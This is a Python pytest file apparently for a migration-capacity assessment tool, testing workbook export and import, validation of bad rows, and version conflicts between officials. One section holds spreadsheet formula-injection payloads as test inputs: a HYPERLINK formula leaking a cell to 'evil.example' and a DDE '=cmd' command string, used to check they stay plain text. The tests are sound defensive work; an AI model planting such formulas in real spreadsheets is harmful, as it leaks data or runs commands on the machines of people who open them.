"""The workbook officials fill in, YAML/JSON files, and the all-or-nothing import."""

from __future__ import annotations

import json
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from migcap import db
from migcap.capacity import models
from migcap.capacity.assessments import create_assessment, get_assessment, history, set_item
from migcap.capacity.exchange import export_assessment, import_file
from migcap.capacity.inventory import load_inventory
from migcap.cli import main
from migcap.errors import ImportRejected
from tests.cli import invoke


@pytest.fixture()
def store(private_store: Path) -> Iterator[Path]:
    yield private_store
    db.dispose_engines()


def _export(tmp_path: Path, state: str, name: str = "form.xlsx") -> Path:
    path = tmp_path / name
    path.write_bytes(export_assessment(state, "xlsx"))
    return path


def _rows(ws: openpyxl.worksheet.worksheet.Worksheet) -> dict[str, int]:
    """item id → sheet row."""
    return {ws.cell(r, 1).value: r for r in range(2, ws.max_row + 1)}


# what an official types into the workbook:
# item → (level as in the drop-down, evidence, notes, assessor, date)
FILLED = {
    "CORE-01": ("established", "Census 2019 and LFS 2023 ask country of birth", "", "Statistics office",
                date(2025, 2, 3)),
    "CORE-04": ("partial", "Draft national migration policy, 2024", "cabinet approval pending", "Interior",
                None),
    "LAB-05": ("good practice", "Pre-departure orientation for all workers; evaluation 2023", "", "Labour",
               None),
    "IRR-03": ("absent", "", "no regularization ground in the law", "Interior", date(2025, 2, 4)),
    "ENV-05": ("not applicable", "", "no community needs relocation", "Environment", date(2025, 2, 5)),
    "RET-10": ("planned", "Monitoring framework budgeted for 2026", "", "", None),
}
CODES = {"good practice": "good_practice", "not applicable": "not_applicable"}


def _fill(path: Path, filled: dict = FILLED) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb["Assessment"]
    rows = _rows(ws)
    for item, (level, evidence, notes, assessor, when) in filled.items():
        r = rows[item]
        ws[f"F{r}"], ws[f"G{r}"], ws[f"H{r}"], ws[f"I{r}"] = (level, evidence or None, notes or None,
                                                              assessor or None)
        ws[f"J{r}"] = datetime(when.year, when.month, when.day) if when else None
    wb.save(path)


def test_workbook_layout(store: Path, tmp_path: Path) -> None:
    create_assessment("Kenya", by="analyst", label="2025 round")
    wb = openpyxl.load_workbook(_export(tmp_path, "KEN"))
    assert wb.sheetnames == ["Instructions", "Assessment", "Levels", "_meta"]
    assert wb["_meta"].sheet_state == "hidden"
    assert "How to fill in this workbook" in [c.value for c in wb["Instructions"]["A"]]
    ws = wb["Assessment"]
    assert [c.value for c in ws[1]] == ["item", "area", "title", "checklist", "evidence that counts", "level",
                                        "evidence", "notes", "assessor", "date", "version"]
    inv = load_inventory()
    assert (ws.max_row == 1 + len(inv.items) and ws["A2"].value == "CORE-01"
            and ws["C2"].value == "Migration statistics")
    assert ws.protection.sheet
    assert all(ws[f"{c}2"].protection.locked for c in "ABCDEK")  # item columns locked
    assert not any(ws[f"{c}2"].protection.locked for c in "FGHIJ")  # answer columns open
    assert ws.column_dimensions["K"].hidden
    (dv,) = [v for v in ws.data_validations.dataValidation if v.type == "list"]
    assert str(dv.sqref) == f"F2:F{ws.max_row}"
    assert dv.formula1 == '"absent,planned,partial,established,good practice,not applicable"'


def test_exported_filled_and_imported_gives_back_the_same_assessment(store: Path, tmp_path: Path,
                                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    a = create_assessment("Kenya", by="analyst", label="2025 round", tags=["transit"])
    path = _export(tmp_path, "KEN")
    _fill(path)
    report = import_file(path, by="focal point")
    assert (report.uid, report.created, report.changed, report.unchanged) == (a.uid, False, 6, 64)
    got = get_assessment("KEN").entries
    for item, (level, evidence, notes, assessor, when) in FILLED.items():
        e = got[item]
        assert (e.level, e.evidence, e.notes, e.assessor, e.assessed_on) == \
               (CODES.get(level, level), evidence, notes, assessor, when), item
        assert e.version == 1 and e.updated_by == "focal point"
    assert set(got) == set(FILLED)
    # importing the same file again changes nothing
    assert import_file(path, by="focal point").changed == 0
    # the YAML export says the same
    doc = yaml.safe_load(export_assessment("KEN", "yaml"))
    by_item = {e["item"]: e for e in doc["entries"]}
    assert by_item["LAB-05"]["level"] == "good practice" and by_item["CORE-01"]["date"] == "2025-02-03"
    assert by_item["CORE-02"] == {"item": "CORE-02", "title": "Research, analysis and evaluation",
                                  "level": None, "evidence": "", "notes": "", "assessor": "", "date": None,
                                  "version": 0}
    # and a re-exported workbook, imported into another, empty database, gives back the same assessment
    again = _export(tmp_path, "KEN", "again.xlsx")
    other = tmp_path / "other-data"
    other.mkdir()
    monkeypatch.setenv("MIGCAP_DATA_DIR", str(other))
    from migcap.config import get_settings

    get_settings.cache_clear()
    copy = import_file(again, by="ministry")
    assert copy.created and copy.uid == a.uid
    b = get_assessment(a.uid)
    assert (b.iso3, b.label, b.declared_tags) == ("KEN", "2025 round", ("transit",))
    assert {k: e.values() for k, e in b.entries.items()} == {k: e.values() for k, e in got.items()}


def test_a_file_with_bad_rows_imports_nothing_and_names_every_bad_row(store: Path, tmp_path: Path) -> None:
    a = create_assessment("Kenya", by="analyst")
    set_item(a.uid, "CORE-02", level="partial", evidence="Migration profile 2018", by="analyst",
             expected_version=0)
    path = _export(tmp_path, "KEN")
    _fill(path)  # six good rows …
    wb = openpyxl.load_workbook(path)
    ws = wb["Assessment"]
    rows = _rows(ws)
    ws[f"F{rows['CORE-03']}"] = "Establishd"  # … and bad ones
    ws[f"F{rows['CORE-05']}"] = "not applicable"  # no reason in the notes
    ws[f"F{rows['CORE-06']}"] = "good practice"  # no evidence
    ws[f"J{rows['CORE-07']}"] = "last week"
    ws[f"J{rows['CORE-08']}"] = datetime(2099, 1, 1)
    ws[f"A{rows['CORE-09']}"] = "CORE-99"  # an official unprotected the sheet and typed over an item id
    ws[f"K{rows['CORE-10']}"] = "v2"
    ws[f"A{rows['LAB-01']}"] = "CORE-01"  # the same item twice
    wb.save(path)
    before = (store / "assessments.sqlite").read_bytes()
    n_history = len(history(a.uid))
    with pytest.raises(ImportRejected) as err:
        import_file(path, by="focal point")
    found = {(p.sheet, p.row, p.column, p.value if not isinstance(p.value, datetime) else p.value.date())
             for p in err.value.problems}
    assert found == {
        ("Assessment", rows["CORE-03"], "F (level)", "Establishd"),
        ("Assessment", rows["CORE-05"], "H (notes)", ""),
        ("Assessment", rows["CORE-06"], "G (evidence)", ""),
        ("Assessment", rows["CORE-07"], "J (date)", "last week"),
        ("Assessment", rows["CORE-08"], "J (date)", "2099-01-01"),
        ("Assessment", rows["CORE-09"], "A (item)", "CORE-99"),
        ("Assessment", rows["CORE-10"], "K (version)", "v2"),
        ("Assessment", rows["LAB-01"], "A (item)", "CORE-01"),
    }
    by_row = {p.row: p for p in err.value.problems}
    assert by_row[rows["CORE-03"]].allowed.startswith("absent, planned, partial, established, good practice")
    assert "between 1990-01-01 and today" in by_row[rows["CORE-08"]].allowed
    assert str(by_row[rows["CORE-03"]]) == (
        f"{path}, sheet 'Assessment', row {rows['CORE-03']}, column 'F (level)': "
        "not a level (value: 'Establishd'); "
        "allowed: absent, planned, partial, established, good practice, not applicable (or empty)")
    assert str(err.value).startswith(f"{path}: nothing imported, 8 problems: ")
    # nothing at all was imported: not the good rows either, the database is unchanged
    assert (store / "assessments.sqlite").read_bytes() == before
    assert len(history(a.uid)) == n_history
    assert set(get_assessment(a.uid).entries) == {"CORE-02"}


def test_two_officials_fill_copies_of_the_same_workbook(store: Path, tmp_path: Path) -> None:
    a = create_assessment("Kenya", by="analyst")
    first, second = _export(tmp_path, "KEN", "a.xlsx"), _export(tmp_path, "KEN", "b.xlsx")
    _fill(first, {"DEV-02": ("partial", "Central bank price survey", "", "Finance", None),
                  "DEV-03": ("planned", "Savings product in design", "", "Finance", None)})
    _fill(second, {"DEV-02": ("established", "Price comparison website", "", "Foreign affairs", None),
                   "INT-04": ("partial", "Health Act 2017 covers emergencies", "", "Health", None)})
    import_file(first, by="Finance")
    with pytest.raises(ImportRejected) as err:
        import_file(second, by="Foreign affairs")
    (problem,) = err.value.problems
    assert problem.row == _rows(openpyxl.load_workbook(second)["Assessment"])["DEV-02"]
    assert (problem.column == "K (version)"
            and "changed in the database after this file was made" in problem.message)
    assert "by Finance" in problem.message
    now = get_assessment(a.uid)
    assert now.entry("DEV-02").level == "partial" and now.entry("INT-04").level is None  # nothing of file 2
    # the second official exports again, re-enters the change, and both changes are kept
    third = _export(tmp_path, "KEN", "c.xlsx")
    _fill(third, {"DEV-02": ("established", "Price comparison website; central bank price survey", "",
                             "Foreign affairs", None),
                  "INT-04": ("partial", "Health Act 2017 covers emergencies", "", "Health", None)})
    assert import_file(third, by="Foreign affairs").changed == 2
    # DEV-03, blank in the copies of the second official, keeps the first official's answer
    assert get_assessment(a.uid).entry("DEV-03").level == "planned"
    levels = [(c.changed_by, c.new) for c in history(a.uid) if c.item_id == "DEV-02" and c.field == "level"]
    assert levels == [("Finance", "partial"), ("Foreign affairs", "established")]
    # --force overwrites, and says so in the history
    _fill(second)
    import_file(second, by="Foreign affairs", force=True)
    assert history(a.uid)[-1].source == "import b.xlsx (overwrite)"


def test_yaml_and_json_files(store: Path, tmp_path: Path) -> None:
    a = create_assessment("Morocco", by="analyst", label="2024")
    doc = json.loads(export_assessment("MAR", "json"))
    assert (doc["format"] == "migcap-assessment/1" and doc["assessment"]["id"] == a.uid
            and len(doc["entries"]) == 70)
    doc["entries"] = [{"item": "IRR-03", "level": "Established", "evidence": "2014 and 2017 campaigns",
                       "date": "2024-11-02", "version": 0},
                      {"item": "INT-02", "level": "partial"}]  # a short hand-written entry: other fields kept
    path = tmp_path / "mar.json"
    path.write_text(json.dumps(doc))
    assert import_file(path, by="x").changed == 2
    e = get_assessment("MAR").entry("IRR-03")
    assert (e.level, e.assessed_on) == ("established", date(2024, 11, 2))
    bad = dict(doc, entries=[{"item": "IRR-03", "levle": "planned"}, {"item": "IRR-04", "level": 3},
                             {"level": "absent"}], format="other")
    path.write_text(json.dumps(bad))
    with pytest.raises(ImportRejected) as err:
        import_file(path, by="x")
    assert [(p.row, p.column) for p in err.value.problems] == [
        (1, "levle"), (None, "format"), (2, "level"), (3, "item")]
    assert str(err.value.problems[0]).startswith(f"{path}, entry 1, field 'levle': unknown field")
    # an entry without a version cannot overwrite an answered item
    path.write_text(json.dumps(dict(doc, entries=[{"item": "IRR-03", "level": "planned"}])))
    with pytest.raises(ImportRejected, match="changed in the database after this file was made"):
        import_file(path, by="x")


def test_check_only(store: Path, tmp_path: Path) -> None:
    create_assessment("Kenya", by="analyst")
    path = _export(tmp_path, "KEN")
    _fill(path)
    report = import_file(path, by="x", dry_run=True)
    assert report.dry_run and report.changed == 6
    assert get_assessment("KEN").entries == {}


# ------------------------------------------------------------------------------ user text stays text

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


def _cells(path: Path, item: str) -> dict[str, Any]:
    """The evidence, notes and assessor cells of an item's row (openpyxl cells: value and type)."""
    ws = openpyxl.load_workbook(path)["Assessment"]
    r = _rows(ws)[item]
    return {"evidence": ws[f"G{r}"], "notes": ws[f"H{r}"], "assessor": ws[f"I{r}"], "version": ws[f"K{r}"]}


def test_evidence_is_written_to_the_workbook_as_text_never_as_a_formula(
        store: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = create_assessment("Kenya", by="analyst", label="=cmd|' /C calc'!A0")
    set_item(a.uid, "CORE-01", level="partial", evidence=EVIL, notes="=1+1", assessor="@SUM(1)", by="x",
             expected_version=0)
    out = tmp_path / "cli.xlsx"
    code, _, err = invoke(main, capsys, "assess", "export", "KEN", "--out", str(out))
    assert code == 0, err
    cells = _cells(out, "CORE-01")
    assert [(cells[k].value, cells[k].data_type) for k in ("evidence", "notes", "assessor")] == [
        (EVIL, "s"), ("=1+1", "s"), ("@SUM(1)", "s")]
    assert cells["evidence"].quotePrefix  # Excel keeps it text when the cell is edited
    assert (cells["version"].value, cells["version"].data_type) == (1, "n")
    meta = {r[0].value: r[1] for r in openpyxl.load_workbook(out)["_meta"].iter_rows()}
    assert (meta["assessment.label"].value, meta["assessment.label"].data_type) == ("=cmd|' /C calc'!A0", "s")
    with zipfile.ZipFile(out) as z:  # no formula anywhere in the file
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in x or b"<f " in x for x in sheets)


def test_an_exported_workbook_imported_unchanged_changes_nothing(store: Path, tmp_path: Path,
                                                                 capsys: pytest.CaptureFixture[str]) -> None:
    a = create_assessment("Kenya", by="analyst")
    set_item(a.uid, "CORE-01", level="partial", evidence="=1+1", notes=EVIL, by="x", expected_version=0)
    set_item(a.uid, "CORE-02", level="planned", evidence="-5 % of staff", notes="+ two posts", by="x",
             expected_version=0)
    out = tmp_path / "form.xlsx"
    assert invoke(main, capsys, "assess", "export", "KEN", "--out", str(out))[0] == 0
    n_history = len(history(a.uid))
    code, text, err = invoke(main, capsys, "assess", "import", str(out), "--by", "y")
    assert code == 0 and "changed 0 item(s), 70 unchanged" in text, (text, err)
    e = get_assessment("KEN").entry("CORE-01")
    assert (e.evidence, e.notes, e.version) == ("=1+1", EVIL, 1) and len(history(a.uid)) == n_history
    assert get_assessment("KEN").entry("CORE-02").evidence == "-5 % of staff"


def test_line_breaks_typed_in_a_browser_survive_the_workbook(store: Path, tmp_path: Path) -> None:
    from sqlalchemy import update

    a = create_assessment("Kenya", by="analyst")
    set_item(a.uid, "CORE-01", level="partial", evidence="one\r\ntwo\rthree", by="x", expected_version=0)
    assert get_assessment("KEN").entry("CORE-01").evidence == "one\ntwo\nthree"  # stored with line feeds
    # an entry stored before texts were cleaned still holds "\r\n": the workbook gives "\n" back, no change
    with db.session_scope(write=True) as s:
        s.execute(update(models.EntryRow).where(models.EntryRow.item_id == "CORE-01").values(notes="a\r\nb"))
    path = _export(tmp_path, "KEN")
    assert import_file(path, by="y").changed == 0
    assert get_assessment("KEN").entry("CORE-01").notes == "a\r\nb"


def test_a_formula_cell_is_refused_naming_its_sheet_row_and_column(store: Path, tmp_path: Path) -> None:
    a = create_assessment("Kenya", by="analyst")
    set_item(a.uid, "CORE-01", level="partial", evidence="Census 2019", by="x", expected_version=0)
    path = _export(tmp_path, "KEN")
    wb = openpyxl.load_workbook(path)
    ws = wb["Assessment"]
    rows = _rows(ws)
    ws[f"G{rows['CORE-01']}"] = "=1+1"      # as Excel stores what an official types: a formula
    ws[f"F{rows['CORE-02']}"] = '=IF(1,"partial","absent")'
    wb["_meta"]["B3"] = "=A1"
    wb.save(path)
    with pytest.raises(ImportRejected) as err:
        import_file(path, by="y")
    found = {(p.sheet, p.row, p.column, p.value) for p in err.value.problems if "formula" in p.message}
    assert found == {("Assessment", rows["CORE-01"], "G (evidence)", "=1+1"),
                     ("Assessment", rows["CORE-02"], "F (level)", '=IF(1,"partial","absent")'),
                     ("_meta", 3, "B", "=A1")}
    assert f"sheet 'Assessment', row {rows['CORE-01']}, column 'G (evidence)': a formula" in str(err.value)
    assert get_assessment("KEN").entry("CORE-01").evidence == "Census 2019"   # nothing emptied or imported


# texts a person may type: any printable character, line breaks and tabs inside, often starting like a formula
_TYPED = st.text(st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")
                 | st.sampled_from("\n\t"), max_size=60)
STARTS = st.sampled_from(["=", "+", "-", "@", "'=", "''+", "#N/A"])
TYPED = st.one_of(_TYPED, st.builds(lambda p, s: p + s, STARTS, _TYPED))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(evidence=TYPED, notes=TYPED, assessor=TYPED.map(lambda t: t[:200]))
def test_random_texts_survive_export_and_import(store: Path, tmp_path: Path, evidence: str, notes: str,
                                                assessor: str) -> None:
    uid = (create_assessment("Kenya", by="analyst") if not get_assessment_or_none("KEN") else
           get_assessment("KEN")).uid
    e = get_assessment(uid).entry("CORE-01")
    set_item(uid, "CORE-01", level="partial", evidence=evidence or "x", notes=notes, assessor=assessor,
             by="x", expected_version=e.version)
    stored = get_assessment(uid).entry("CORE-01")
    for fmt in ("xlsx", "yaml", "json"):
        path = tmp_path / f"round.{fmt}"
        path.write_bytes(export_assessment(uid, fmt))
        report = import_file(path, by="y")
        assert report.changed == 0, (fmt, evidence, notes, assessor)
    assert get_assessment(uid).entry("CORE-01") == stored


def get_assessment_or_none(state: str) -> Any:
    from migcap.errors import MigcapError

    try:
        return get_assessment(state)
    except MigcapError:
        return None
